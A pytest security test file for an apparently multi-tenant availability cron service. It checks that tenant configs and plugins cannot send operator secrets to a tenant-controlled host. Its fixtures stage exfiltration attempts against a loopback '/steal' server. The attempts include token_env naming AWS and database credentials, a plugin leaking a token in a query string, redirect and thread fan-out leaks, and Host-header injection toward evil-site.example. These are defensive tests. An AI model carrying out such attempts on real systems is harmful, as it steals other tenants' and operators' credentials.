"""A tenant writes provider_config; the environment is the operator's (docs/security.md).

Against a real loopback "capture" server standing for a tenant's own host: a workspace may
name an environment variable only if the operator scoped it to that workspace, a scoped
secret goes only to the hosts the operator allows for it, and nothing of another tenant's
token (nor of any other variable of the job's environment) ever reaches the capture server.
"""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from helpers import add_workspace, cache_row, make_runtime, make_settings
from httpserver import LocalServer, Reply

from availability_cron import refresh
from availability_cron.errors import ConfigError
from availability_cron.providers import (
    FetchRequest,
    Provider,
    ProviderContext,
    ProviderRegistry,
)
from availability_cron.refresh import CallContext, Outcome, PlannedRefresh
from availability_cron.settings import load_settings

NOW = datetime(2026, 12, 1, tzinfo=UTC)
ACME_TOKEN = "acme-calcom-key-7f3a9c2e51d84b06"
AWS_SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"
OPERATOR_ENV = {
    "CALCOM_TOKEN_ACME": ACME_TOKEN,
    "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
    "POSTGRES_PASSWORD": "pg-superuser-pass-1234",
    "DB_PASSWORD": "app-db-pass-5678",
    "INTERNAL_CAL_TOKEN": "internal-shared-token-0042",
}


def call(workspace_id: str, provider: str, cfg: dict[str, Any], *,
         environ: dict[str, str] | None = None, scopes: str | None = None,
         extra: dict[str, type[Provider]] | None = None) -> Outcome:
    """One refresh exactly as the sweep makes it, with the operator's environment."""
    env = dict(OPERATOR_ENV if environ is None else environ)
    context = ProviderContext(environ=env)
    if scopes is not None:
        from availability_cron.providers.scopes import SecretScopes

        context = ProviderContext(environ=env, secret_scopes=SecretScopes.from_setting(scopes))
    registry = ProviderRegistry(context, extra=extra)
    ctx = CallContext(registry=registry, lookahead=timedelta(days=7),
                      deadline=time.monotonic() + 10, clock=lambda: NOW,
                      monotonic=time.monotonic, environ=env)
    try:
        return refresh.call_provider(
            PlannedRefresh(workspace_id, provider, cfg, "missing", NOW), ctx)
    finally:
        registry.close()


def calcom(server: LocalServer, **extra: Any) -> dict[str, Any]:
    return {"event_type_id": 42, "base_url": server.url(), **extra}


def captured(server: LocalServer) -> str:
    """Everything the capture server received, as one text."""
    return json.dumps([[r.path, r.query, r.headers] for r in server.requests])


def assert_nothing_of(secret: str, text: str, piece: int = 8) -> None:
    for i in range(len(secret) - piece + 1):
        assert secret[i:i + piece] not in text, f"part of a secret leaked: {text!r}"


@pytest.fixture
def capture(http_server: LocalServer) -> LocalServer:
    http_server.route("/v2/slots", Reply(200, {"status": "success", "data": {}}))
    http_server.route("/steal", Reply(200, []))
    return http_server


# --- item 1: whose secret, sent where ---------------------------------------------------------


def test_a_workspace_cannot_have_another_tenants_token_sent_to_its_own_server(capture):
    outcome = call("evil", "calcom", calcom(capture, token_env="CALCOM_TOKEN_ACME"))

    assert capture.requests == []
    assert outcome.error is not None and outcome.error.startswith("[permanent] ")
    assert "CALCOM_TOKEN_ACME" in outcome.error
    assert "not scoped to workspace 'evil'" in outcome.error
    assert "CALCOM_TOKEN_EVIL" in outcome.error  # the name it may use instead
    assert_nothing_of(ACME_TOKEN, outcome.error)


@pytest.mark.parametrize("variable", ["AWS_SECRET_ACCESS_KEY", "POSTGRES_PASSWORD",
                                      "DB_PASSWORD", "INTERNAL_CAL_TOKEN"])
def test_token_env_cannot_name_a_variable_the_operator_did_not_scope(capture, variable):
    cfg = {"url": capture.url("/steal"), "token_env": variable, "token_header": "X-Stolen"}

    outcome = call("evil", "http", cfg)

    assert capture.requests == []
    assert outcome.error is not None and outcome.error.startswith("[permanent] ")
    assert f"names {variable}, which the operator has not scoped" in outcome.error
    for secret in OPERATOR_ENV.values():
        assert_nothing_of(secret, outcome.error)


def test_a_workspaces_own_operator_token_is_not_sent_to_a_host_the_operator_did_not_allow(
        capture, caplog):
    outcome = call("acme", "calcom", calcom(capture, token_env="CALCOM_TOKEN_ACME"))

    assert capture.requests == []
    assert outcome.error is not None and outcome.error.startswith("[permanent] ")
    assert "refused to send an operator secret to http://127.0.0.1" in outcome.error
    # The operator's log, not the tenant's stored error, says which variable and why.
    assert ("refused to send the value of CALCOM_TOKEN_ACME to http://127.0.0.1:"
            in caplog.text)
    assert "its rules allow https://api.cal.com" in caplog.text


def test_an_operator_rule_lets_a_scoped_token_reach_the_hosts_it_lists(capture):
    port = capture.url().rsplit(":", 1)[1]
    scopes = json.dumps({"CALCOM_TOKEN_{workspace}": {"hosts": [f"http://127.0.0.1:{port}"]}})

    outcome = call("acme", "calcom", calcom(capture, token_env="CALCOM_TOKEN_ACME"),
                   scopes=scopes)

    assert outcome.error is None, outcome.error
    [seen] = capture.requests
    assert seen.headers["authorization"] == f"Bearer {ACME_TOKEN}"


def test_a_shared_token_is_usable_only_by_the_workspaces_its_rule_lists(capture):
    port = capture.url().rsplit(":", 1)[1]
    scopes = json.dumps({"INTERNAL_CAL_TOKEN": {"workspaces": ["acme", "globex"],
                                                "hosts": [f"http://127.0.0.1:{port}"]}})
    cfg = {"url": capture.url("/steal"), "token_env": "INTERNAL_CAL_TOKEN"}

    allowed = [call(ws, "http", cfg, scopes=scopes) for ws in ("acme", "globex")]
    refused = call("evil", "http", cfg, scopes=scopes)

    assert [o.error for o in allowed] == [None, None]
    assert len(capture.requests) == 2
    assert refused.error is not None and "not scoped to workspace 'evil'" in refused.error


def test_a_token_a_tenant_writes_into_its_own_config_is_still_sent_to_its_own_server(capture):
    outcome = call("evil", "http", {"url": capture.url("/steal"), "token": "evil-own-token-99"})

    assert outcome.error is None, outcome.error
    [seen] = capture.requests
    assert seen.headers["authorization"] == "Bearer evil-own-token-99"


def test_a_plugin_reading_the_environment_itself_cannot_send_a_scoped_secret_elsewhere(
        capture):
    class Leaky(Provider):
        name = "leaky"

        def fetch(self, request: FetchRequest) -> list[datetime]:
            token = self.context.environ["CALCOM_TOKEN_ACME"]
            self.context.http.get(request, capture.url("/steal"), what="leaky: GET /steal",
                                  params={"k": token})
            return []

    outcome = call("evil", "leaky", {}, extra={"leaky": Leaky})

    assert capture.requests == []
    assert outcome.error is not None and "refused to send an operator secret" in outcome.error


def test_a_run_refreshes_nobody_with_a_stolen_token_and_stores_the_rule_it_broke(
        database_url, conn, capture):
    add_workspace(conn, "evil", provider="calcom",
                  config=calcom(capture, token_env="CALCOM_TOKEN_ACME"))
    add_workspace(conn, "thief", provider="http",
                  config={"url": capture.url("/steal"), "token_env": "AWS_SECRET_ACCESS_KEY",
                          "token_header": "X-Stolen"})

    summary = refresh.run_refresh(make_settings(database_url),
                                  make_runtime(database_url, environ=OPERATOR_ENV),
                                  default_source="availability_workspaces")

    assert (summary.attempted, summary.refreshed, summary.errors) == (2, 0, 2)
    assert capture.requests == []
    for workspace, variable in (("evil", "CALCOM_TOKEN_ACME"), ("thief", "AWS_SECRET_ACCESS_KEY")):
        row = cache_row(conn, workspace)
        assert row is not None and row["last_error"].startswith("[permanent] ")
        assert f"names {variable}, which the operator has not scoped" in row["last_error"]


# --- the operator's setting -------------------------------------------------------------------


@pytest.mark.parametrize("value, message", [
    ("not json", "must be a JSON object"),
    ('["X"]', "must be a JSON object"),
    ('{"TOK": {"hosts": ["api.cal.com"]}}', '"workspaces" must be'),
    ('{"TOK_{workspace}": {"hosts": []}}', '"hosts" must be a non-empty list'),
    ('{"TOK_{workspace}": {"hosts": ["a b"]}}', "is not a host"),
    ('{"TOK_{workspace}": {"workspaces": ["a"], "hosts": ["x.io"]}}', "a template names"),
    ('{"DATABASE_URL": {"workspaces": "*", "hosts": ["x.io"]}}', "cannot be scoped"),
    ('{"PGPASSWORD": {"workspaces": "*", "hosts": ["x.io"]}}', "cannot be scoped"),
    ('{"bad-name": {"workspaces": "*", "hosts": ["x.io"]}}', "not a variable name"),
])
def test_a_bad_secret_scopes_setting_is_refused_naming_the_variable(value, message):
    with pytest.raises(ConfigError) as info:
        load_settings({}, {"AVAILABILITY_CRON_SECRET_SCOPES": value}, {})

    assert info.value.message.startswith("AVAILABILITY_CRON_SECRET_SCOPES ")
    assert message in info.value.message


def test_only_workspace_ids_that_map_one_to_one_can_use_a_template():
    from availability_cron.providers.scopes import SecretScopes

    scopes = SecretScopes()
    env = {"CALCOM_TOKEN_A_B": "t"}

    assert scopes.resolve("CALCOM_TOKEN_A_B", workspace_id="a-b", environ=env,
                          provider="calcom") == "t"
    for other in ("a_b", "A-B", "A_B"):  # would all fold to A_B
        with pytest.raises(Exception, match="not scoped"):
            scopes.resolve("CALCOM_TOKEN_A_B", workspace_id=other, environ=env, provider="calcom")


# --- holes a hostile review found ---------------------------------------------------------------


def test_a_cookie_one_workspaces_server_sets_is_never_sent_for_another_workspace(http_server):
    http_server.route("/login", Reply(200, [], headers={
        "Set-Cookie": "session=acme-authenticated-session-77; Path=/"}))
    http_server.route("/slots", Reply(200, []))
    registry = ProviderRegistry(ProviderContext(environ={}))
    ctx = CallContext(registry=registry, lookahead=timedelta(days=7),
                      deadline=time.monotonic() + 10, clock=lambda: NOW,
                      monotonic=time.monotonic, environ={})
    try:
        for workspace, path in (("acme", "/login"), ("evil", "/slots")):
            refresh.call_provider(PlannedRefresh(workspace, "http",
                                                 {"url": http_server.url(path)}, "missing",
                                                 NOW), ctx)
    finally:
        registry.close()

    assert [r.path for r in http_server.requests] == ["/login", "/slots"]
    assert "cookie" not in http_server.requests[1].headers


def test_a_workspace_cannot_use_a_template_to_reach_a_name_an_exact_rule_gives_others(capture):
    port = capture.url().rsplit(":", 1)[1]
    rules = {"CALCOM_TOKEN_AGENCY": {"workspaces": ["acme"],
                                     "hosts": ["api.cal.com", f"http://127.0.0.1:{port}"]}}
    env = {**OPERATOR_ENV, "CALCOM_TOKEN_AGENCY": "agency-account-token-123456"}

    outcome = call("agency", "calcom", calcom(capture, token_env="CALCOM_TOKEN_AGENCY"),
                   environ=env, scopes=json.dumps(rules))

    assert capture.requests == []
    assert outcome.error is not None and "not scoped to workspace 'agency'" in outcome.error


def test_templates_that_could_name_one_variable_for_two_workspaces_are_refused():
    # CALCOM_TOKEN_ACME_EU would be acme's under this rule and acme-eu's under the built-in.
    with pytest.raises(ConfigError, match="could name the same variable"):
        load_settings({}, {"AVAILABILITY_CRON_SECRET_SCOPES":
                           '{"CALCOM_TOKEN_{workspace}_EU": {"hosts": ["api.cal.com"]}}'}, {})


def test_a_template_without_a_literal_prefix_is_refused():
    with pytest.raises(ConfigError, match="prefix"):
        load_settings({}, {"AVAILABILITY_CRON_SECRET_SCOPES":
                           '{"{workspace}_KEY": {"hosts": ["x.io"]}}'}, {})


def test_a_scoped_secret_is_refused_on_its_way_elsewhere_from_a_plugins_own_threads(capture):
    from concurrent.futures import ThreadPoolExecutor

    from availability_cron.providers import ConfigReader

    class FanOut(Provider):
        name = "fanout"

        def fetch(self, request: FetchRequest) -> list[datetime]:
            token = ConfigReader(self.name, request.config, self.context.environ).secret(
                required=True)

            def one(_: int) -> None:
                self.context.http.get(request, capture.url("/steal"), what="fanout: GET",
                                      headers={"Authorization": f"Bearer {token}"})

            with ThreadPoolExecutor(2) as pool:
                list(pool.map(one, range(2)))
            return []

    outcome = call("acme", "fanout", {"token_env": "CALCOM_TOKEN_ACME"},
                   extra={"fanout": FanOut})

    assert capture.requests == []
    assert outcome.error is not None and "refused to send" in outcome.error


def test_a_scoped_secret_is_not_carried_through_a_redirect_to_another_host(http_server):
    other = http_server  # the allowed origin redirects to a second, unlisted server
    from httpserver import LocalServer as Server

    elsewhere = Server().start()
    try:
        elsewhere.route("/steal", Reply(200, []))
        other.route("/go", Reply(302, None, headers={"Location": elsewhere.url("/steal")}))

        class Redirected(Provider):
            name = "redirected"

            def fetch(self, request: FetchRequest) -> list[datetime]:
                token = self.context.environ["INTERNAL_CAL_TOKEN"]
                self.context.http.get(request, other.url("/go"), what="redirected: GET",
                                      headers={"X-Api-Key": token}, follow_redirects=True,
                                      parse_json=False)
                return []

        port = other.url().rsplit(":", 1)[1]
        scopes = json.dumps({"INTERNAL_CAL_TOKEN": {"workspaces": "*",
                                                    "hosts": [f"http://127.0.0.1:{port}"]}})
        outcome = call("acme", "redirected", {}, scopes=scopes,
                       extra={"redirected": Redirected})

        assert [r.headers.get("x-api-key") for r in elsewhere.requests] in ([], [None])
        assert outcome.error is None or "refused" in outcome.error
    finally:
        elsewhere.stop()


@pytest.mark.parametrize("header", ["Host", "X-Forwarded-Host", "Forwarded", "Cookie",
                                    "Transfer-Encoding", "Proxy-Authorization"])
def test_a_tenant_cannot_set_headers_that_change_where_or_how_a_request_goes(capture, header):
    outcome = call("evil", "http", {"url": capture.url("/steal"),
                                    "headers": {header: "evil-site.example"}})

    assert capture.requests == []
    assert outcome.error is not None and outcome.error.startswith("[permanent] ")
    assert header in outcome.error


@pytest.mark.parametrize("value, request_piece", [
    ("UTC", {"params": {"timezone": "UTC"}}),
    ("v2", {"url_path": "/v2/slots"}),
    ("30", {"params": {"days": "30"}}),
])
def test_a_short_value_of_a_scoped_variable_refuses_nobody_elses_request(
        capture, value, request_piece):
    path = request_piece.get("url_path", "/steal")
    capture.route(path, Reply(200, []))
    env = {**OPERATOR_ENV, "CALCOM_TOKEN_OTHER": value}
    cfg: dict[str, Any] = {"url": capture.url(path), **{k: v for k, v in request_piece.items()
                                                       if k == "params"}}

    outcome = call("evil", "http", cfg, environ=env)

    assert outcome.error is None, outcome.error
    assert len(capture.requests) == 1


def test_a_refusal_names_no_other_workspaces_variable(capture):
    # The tenant guesses a value and sends it to its own host: a refusal that named the
    # variable would tell it which workspace's secret it guessed.
    outcome = call("evil", "http", {"url": capture.url("/steal"),
                                    "headers": {"X-Guess": ACME_TOKEN}})

    assert capture.requests == []
    assert outcome.error is not None and "refused to send" in outcome.error
    assert "CALCOM_TOKEN_ACME" not in outcome.error and "acme" not in outcome.error.lower()


def test_a_non_ascii_scoped_token_is_refused_without_showing_any_character_of_it(capture):
    port = capture.url().rsplit(":", 1)[1]
    scopes = json.dumps({"CALCOM_TOKEN_{workspace}": {"hosts": [f"http://127.0.0.1:{port}"]}})
    env = {"CALCOM_TOKEN_ACME": "acme-tökén-with-umlauts-2024"}

    outcome = call("acme", "calcom", calcom(capture, token_env="CALCOM_TOKEN_ACME"),
                   environ=env, scopes=scopes)

    assert outcome.error is not None and outcome.error.startswith("[permanent] ")
    assert "ö" not in outcome.error and "position" not in outcome.error
